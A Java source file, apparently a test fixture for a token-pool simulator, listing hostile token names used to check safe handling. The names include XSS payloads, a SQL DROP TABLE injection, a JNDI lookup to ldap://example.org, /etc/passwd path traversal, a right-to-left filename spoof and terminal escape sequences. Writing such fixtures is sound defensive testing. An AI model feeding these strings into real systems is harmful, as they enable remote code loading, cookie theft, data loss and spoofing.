package io.tidemark.simulator.pool;

import io.tidemark.simulator.pool.TokenNames.Name;
import java.util.List;

/** Names that mean harm to whoever prints, logs, stores or splits them. */
final class HostileNames {
  private static final int LONG = 10_000;

  static final List<Name> ALL = List.of(
      new Name("<script>alert(document.cookie)</script>", "<b>XSS</b>"),
      new Name("\"><img src=x onerror=alert(1)>", "\"'`"),
      new Name("Safe\u202Enohtyp exe.kcilc\u202C", "\u202EDSU"),
      new Name("Two\nLines\r\nand: a header", "LINE\nBREAK"),
      new Name("\u0000Nul\u0007Bell\u001B[31mRed", "\u001B[2J"),
      new Name("\uD83D\uDE80\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 To The Moon", "\uD83D\uDE80"),
      new Name("Either/Or/../../etc/passwd", "A/B"),
      new Name("${jndi:ldap://example.org/a} %s %n {{7*7}}", "$USDC"),
      new Name("'; DROP TABLE pools; --", "NULL"),
      new Name("[click](https://example.org) @everyone", "*_~`"),
      new Name("Z\u0351\u036B\u0343\u036A\u0302\u036Balgo", "ZA\u0336LGO"),
      new Name("\u200B\u200B", "\uFEFF"),
      new Name("X".repeat(LONG), "LONG" + "G".repeat(LONG)));

  private HostileNames() {}
}
